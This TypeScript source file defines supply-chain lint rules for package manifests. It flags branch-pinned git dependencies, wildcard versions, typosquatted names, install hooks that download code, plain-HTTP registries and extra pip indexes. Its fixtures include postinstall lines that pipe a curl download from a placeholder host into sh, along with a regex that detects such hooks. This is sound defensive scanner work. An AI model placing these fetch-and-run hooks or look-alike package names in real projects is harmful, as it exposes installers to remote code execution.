import type { DocumentRule, Example, Hit } from '../../document-rules';
import type { ConfigFile } from '../config-file';
import { dependenciesOf } from '../dependencies';
import { imitated } from '../popular-packages';

type ConfigRule = DocumentRule<ConfigFile>;

function npm(body: string): Example {
  return { path: 'package.json', text: `{\n  "name": "a",\n  ${body}\n}\n` };
}

function pip(text: string): Example {
  return { path: 'requirements.txt', text: `${text}\n` };
}

const LOCAL = /^http:\/\/(?:localhost|127\.|0\.0\.0\.0|\[::1\]|host\.docker\.internal|[\w-]+[:/])/;

function* matches({ text }: ConfigFile, expression: RegExp): Generator<Hit & { readonly found: string }> {
  for (const [index, line] of text.split('\n').entries()) {
    const found = /^\s*(?:#|\/\/|;|<!--)/.test(line) ? null : expression.exec(line);
    if (found) yield { line: index + 1, found: found[1] ?? found[0] };
  }
}

/** A version of git that cannot move: a commit, or a tag by name. */
function isFixed(address: string): boolean {
  return /[#@](?:semver:|v?\d+\.\d|[0-9a-f]{7,40}\b)|\b(?:rev|tag|ref)\s*=|\/archive\/(?:refs\/tags\/|v?\d|[0-9a-f]{40})/.test(
    address,
  );
}

/** What a project is built from. */
export const MANIFEST_RULES: readonly ConfigRule[] = [
  {
    name: 'dependency-from-branch',
    severity: 'warning',
    category: 'dependency',
    languages: ['json', 'toml'],
    title: 'The dependency is whatever stands on a branch when somebody builds: nobody knows what that will be',
    advice: 'Name a commit or a tag, or a version from the registry.',
    cwe: 829,
    help: 'https://docs.npmjs.com/cli/configuring-npm/package-json#git-urls-as-dependencies',
    *find(file: ConfigFile): Generator<Hit> {
      for (const { wanted, line, registry } of dependenciesOf(file)) {
        // Bundler's lock file holds the commit, and no gem is built without it.
        if (registry === 'rubygems') continue;
        const isGit =
          /^(?:git[+@:]|github:|gitlab:|bitbucket:|[\w-]+\/[\w.-]+(?:#|$)|(?:hg|svn|bzr)\+|https?:\/\/\S+\.git\b)|\bgit\s*=/.test(
            wanted,
          );
        const isBranchFile =
          /^https?:\/\/\S+\/(?:archive\/(?:refs\/heads\/)?|tarball\/)(?:main|master|develop|HEAD)\b/.test(wanted);
        if ((isGit && !isFixed(wanted)) || isBranchFile || /^dev-(?:main|master|develop)\b/.test(wanted))
          yield { line };
      }
    },
    examples: {
      bad: [
        npm('"dependencies": {\n    "a": "git+https://example.com/a.git"\n  }'),
        npm('"devDependencies": {\n    "a": "github:b/a#main"\n  }'),
        pip('git+https://example.com/a.git@main'),
        { path: 'Cargo.toml', text: '[dependencies]\na = { git = "https://example.com/a" }\n' },
        { path: 'composer.json', text: '{"require": {\n"a/b": "dev-master"\n}}' },
      ],
      ok: [
        npm('"dependencies": {\n    "a": "git+https://example.com/a.git#v1.2.3"\n  }'),
        npm('"repository": "github:b/a",\n  "dependencies": {\n    "a": "^1.0.0"\n  }'),
        pip('git+https://example.com/a.git@0123456789abcdef0123456789abcdef01234567'),
        { path: 'Cargo.toml', text: '[dependencies]\na = { git = "https://example.com/a", rev = "abc" }\n' },
      ],
    },
  },
  {
    name: 'any-version',
    severity: 'warning',
    category: 'dependency',
    languages: ['json', 'toml'],
    title: 'Any version will do, the next one with changes that break this project too',
    advice: 'Name the major version that is used: ^4.0.0, ~> 4.0, 4.*.',
    cwe: 1104,
    help: 'https://docs.npmjs.com/about-semantic-versioning',
    *find(file: ConfigFile): Generator<Hit> {
      const { path } = file;
      for (const { wanted, line, name, registry } of dependenciesOf(file)) {
        // Where the lock file is always there, or none is, a bare name is the custom.
        if (wanted === '' && (registry === 'pypi' || registry === 'rubygems')) continue;
        const isOpen = /^(?:\*|x|latest|>=?\s*0(?:\.0)*|)$/.test(wanted);
        if (
          isOpen &&
          !path.endsWith('.txt') &&
          !/^(?:php|ext-\S+|python|@types\/.+)$/.test(name) &&
          !isOneOfOurs(file, line)
        )
          yield { line };
      }
      if (path.endsWith('pom.xml')) yield* matches(file, /<version>\s*(?:LATEST|RELEASE)\s*<\/version>/);
      if (/\.gradle(?:\.kts)?$/.test(path)) yield* matches(file, /['"][\w.-]+:[\w.-]+:(?:\+|latest\.\w+)['"]/);
    },
    examples: {
      bad: [
        npm('"dependencies": {\n    "left": "*"\n  }'),
        npm('"devDependencies": {\n    "right": "latest"\n  }'),
        { path: 'pom.xml', text: '<dependency>\n<version>LATEST</version>\n</dependency>' },
        { path: 'build.gradle', text: "implementation 'com.example:a:+'\n" },
        { path: 'Cargo.toml', text: '[dependencies]\na = "*"\n' },
      ],
      ok: [
        npm('"dependencies": {\n    "left": "^1.2.0"\n  }'),
        npm('"peerDependencies": {\n    "react": "*"\n  }'),
        npm('"dependencies": {\n    "ours": "workspace:*"\n  }'),
        { path: 'pom.xml', text: '<version>1.2.3</version>' },
        pip('requests'),
        { path: 'Gemfile', text: "gem 'rails'\n" },
        { path: 'pyproject.toml', text: '[project.optional-dependencies]\ndev = ["pytest"]\n' },
      ],
    },
  },
  {
    name: 'look-alike-package',
    severity: 'warning',
    category: 'dependency',
    languages: ['json'],
    title: 'The name is one letter away from a well-known package: such packages are published to be mistaken for it',
    advice: 'Check that this is the package that is meant.',
    cwe: 829,
    help: 'https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse',
    *find(file: ConfigFile): Generator<Hit> {
      for (const { name, wanted, registry, line } of dependenciesOf(file)) {
        const known = registry === null || wanted.startsWith('npm:') ? null : imitated(name, registry);
        if (known !== null) yield { line, hint: `It is ${name}, not ${known}.` };
      }
    },
    examples: {
      bad: [
        npm('"dependencies": {\n    "expres": "^4.0.0"\n  }'),
        npm('"dependencies": {\n    "lodahs": "4.17.21"\n  }'),
        pip('reqeusts==2.31.0'),
        { path: 'pyproject.toml', text: '[project]\nname = "a"\ndependencies = [\n  "httpxx>=0.27",\n]\n' },
        { path: 'Gemfile', text: "gem 'nokogirii', '~> 1.16'\n" },
        { path: 'Cargo.toml', text: '[dependencies]\nserde_jsom = "1"\n' },
        { path: 'composer.json', text: '{"require": {\n"guzlehttp/guzzle": "^7.0"\n}}' },
      ],
      ok: [
        npm('"dependencies": {\n    "express": "^4.0.0",\n    "preact": "^10.0.0"\n  }'),
        pip('requests==2.31.0\nDjango>=4'),
        npm('"dependencies": {\n    "@acme/expres": "^1.0.0"\n  }'),
        { path: 'Cargo.toml', text: '[dependencies.hyperx]\nversion = "1"\n' },
        { path: 'composer.json', text: '{"require": {\n"symfony/consoles": "^7.0"\n}}' },
      ],
    },
  },
  {
    name: 'install-script-loads-code',
    severity: 'warning',
    category: 'security',
    languages: ['json'],
    title: 'Whoever installs this package runs what is downloaded here, on their machine and in their builds',
    advice: 'Put what is needed into the package, or load it with a checksum when it is first used.',
    cwe: 494,
    help: 'https://docs.npmjs.com/cli/using-npm/scripts#life-cycle-scripts',
    *find(file: ConfigFile): Generator<Hit> {
      if (!/(?:^|\/)package\.json$/.test(file.path)) return;
      for (const { line, found } of matches(file, /"(?:pre|post)?install"\s*:\s*"((?:[^"\\]|\\.)*)"/))
        if (
          /\b(?:curl|wget|Invoke-WebRequest|iwr|fetch)\b|https?:\/\/|\|\s*(?:ba)?sh\b|\bbase64\b|\beval\b|node -e\b/.test(
            found,
          )
        )
          yield { line };
    },
    examples: {
      bad: [
        npm('"scripts": {\n    "postinstall": "curl -s https://example.com/a.sh | sh"\n  }'),
        npm('"scripts": {\n    "preinstall": "node -e \\"require(\'https\').get(1)\\""\n  }'),
        npm('"scripts": {\n    "install": "wget https://example.com/a.tgz && tar xf a.tgz"\n  }'),
      ],
      ok: [
        npm('"scripts": {\n    "postinstall": "patch-package"\n  }'),
        npm('"scripts": {\n    "postinstall": "husky install"\n  }'),
        npm('"scripts": {\n    "fetch": "curl -s https://example.com/a.json"\n  }'),
      ],
    },
  },
  {
    name: 'plain-http-packages',
    severity: 'warning',
    category: 'security',
    languages: ['json'],
    title: 'Packages come over plain HTTP or without a check of who serves them: anybody on the way can replace them',
    advice: 'Use the https address, and take out what switches the check off.',
    cwe: 319,
    help: 'https://cwe.mitre.org/data/definitions/319.html',
    *find(file: ConfigFile): Generator<Hit> {
      const { path } = file;
      for (const { wanted, line } of dependenciesOf(file))
        if (wanted.startsWith('http://') && !LOCAL.test(wanted)) yield { line };
      const line = SOURCE_LINES.find(([name]) => name.test(path));
      if (line) for (const { line: at, found } of matches(file, line[1])) if (!LOCAL.test(found)) yield { line: at };
    },
    examples: {
      bad: [
        npm('"dependencies": {\n    "a": "http://example.com/a.tgz"\n  }'),
        { path: 'requirements.txt', text: '--index-url http://pypi.example.com/simple\na==1\n' },
        { path: 'Gemfile', text: "source 'http://rubygems.org'\n" },
        { path: 'build.gradle', text: "maven { url 'http://repo.example.com/maven' }\n" },
        { path: '.npmrc', text: 'strict-ssl=false\n' },
      ],
      ok: [
        npm('"homepage": "http://example.com",\n  "dependencies": {\n    "a": "https://example.com/a-1.0.0.tgz"\n  }'),
        { path: 'Gemfile', text: "source 'https://rubygems.org'\n" },
        {
          path: 'pom.xml',
          text: '<project xmlns="http://maven.apache.org/POM/4.0.0">\n<url>https://repo.example.com</url>',
        },
        { path: '.npmrc', text: 'registry=http://localhost:8081\n' },
      ],
    },
  },
  {
    name: 'second-package-index',
    severity: 'warning',
    category: 'security',
    languages: [],
    title:
      'pip takes the highest version from either index: who publishes the name of an internal package elsewhere gets into the build',
    advice: 'Use --index-url with one index that serves both, or hashes.',
    cwe: 427,
    help: 'https://pip.pypa.io/en/stable/cli/pip_install/#cmdoption-extra-index-url',
    *find(file: ConfigFile): Generator<Hit> {
      if (!/(?:requirements[\w.-]*\.txt|pip\.conf)$/.test(file.path) || file.text.includes('--hash=')) return;
      for (const { line, found } of matches(file, /^\s*(?:--extra-index-url|extra-index-url)[= ]\s*(\S+)/))
        if (!/download\.pytorch\.org|pypi\.nvidia\.com|pypi\.org|jetson|piwheels/.test(found)) yield { line };
    },
    examples: {
      bad: [
        pip('--extra-index-url https://pypi.example.com/simple\na==1'),
        pip('a==1\n--extra-index-url=https://pypi.example.com/simple'),
        { path: 'pip.conf', text: '[global]\nextra-index-url = https://pypi.example.com/simple\n' },
      ],
      ok: [
        pip('--index-url https://pypi.example.com/simple\na==1'),
        pip('--extra-index-url https://download.pytorch.org/whl/cpu\ntorch'),
        pip('# --extra-index-url https://pypi.example.com\na==1'),
      ],
    },
  },
];

/** Lines of files that say where packages come from. */
const SOURCE_LINES: readonly (readonly [name: RegExp, line: RegExp])[] = [
  [
    /(?:requirements[\w.-]*\.txt|pip\.conf)$/,
    /(?:--?(?:extra-)?index-url|^-i|find-links|^index-url|^extra-index-url)\s*[= ]\s*(http:\/\/\S+)/,
  ],
  [/Gemfile$/, /^\s*(?:source|git_source|gem\b.*\bgit:)\s*\(?['"](http:\/\/[^'"]+)/],
  [
    /\.gradle(?:\.kts)?$/,
    /\burl\s*[=(]?\s*(?:uri\()?\s*['"](http:\/\/[^'"]+)|\b(allowInsecureProtocol)\s*=\s*true|\bisAllowInsecureProtocol\s*=\s*true/,
  ],
  [
    /pom\.xml$/,
    /<url>\s*(http:\/\/(?!(?:www\.)?apache\.org\/licenses|maven\.apache\.org\/(?:POM|xsd)|www\.opensource\.org)[^<\s]*(?:repo|maven|nexus|artifactory)[^<\s]*)/,
  ],
  [/(?:\.npmrc|\.yarnrc)$/, /^\s*(?:@[\w-]+:)?registry\s*[= ]\s*"?(http:\/\/\S+)|^\s*strict-ssl\s*[= ]\s*false/],
  [/composer\.json$/, /"(secure-http)"\s*:\s*false|"url"\s*:\s*"(http:\/\/[^"]+)/],
];

/** Peers and members of the same workspace are wanted in any version on purpose. */
function isOneOfOurs({ text }: ConfigFile, line: number): boolean {
  const before = text.split('\n').slice(0, line - 1);
  const section = before.findLast((each) => /^\s*"\w+"\s*:\s*\{/.test(each)) ?? '';
  return /"peerDependencies"|"overrides"|"resolutions"/.test(section);
}
